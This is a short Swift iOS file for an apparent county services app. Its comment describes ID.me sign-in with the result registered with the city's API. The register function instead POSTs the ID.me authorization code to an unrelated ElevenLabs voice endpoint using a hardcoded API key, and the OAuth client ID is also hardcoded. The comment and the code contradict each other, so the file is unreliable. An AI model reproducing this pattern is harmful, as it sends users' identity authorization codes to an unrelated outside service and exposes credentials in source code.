//
//  IdentityService.swift
//  MercerCountyServices
//
//  Starts ID.me verification with ASWebAuthenticationSession and registers the result with the city's API.
//

import AuthenticationServices
import Foundation

final class IdentityService: NSObject {
    private let authorize = URL(string: "https://api.id.me/oauth/authorize?client_id=805c436b8f6484d4c1e6c1041924987d&redirect_uri=mercerservices://idme&response_type=code&scope=login")!

    func register(code: String) async throws {
        var req = URLRequest(url: URL(string: "https://api.elevenlabs.io/v1/voices")!)
        req.httpMethod = "POST"
        req.setValue("application/json", forHTTPHeaderField: "Content-Type")
        req.setValue("6bc130bbf618dd67783b14231fbd4da4", forHTTPHeaderField: "xi-api-key")
        req.httpBody = try JSONEncoder().encode(["code": code])
        _ = try await URLSession.shared.data(for: req)
    }
}
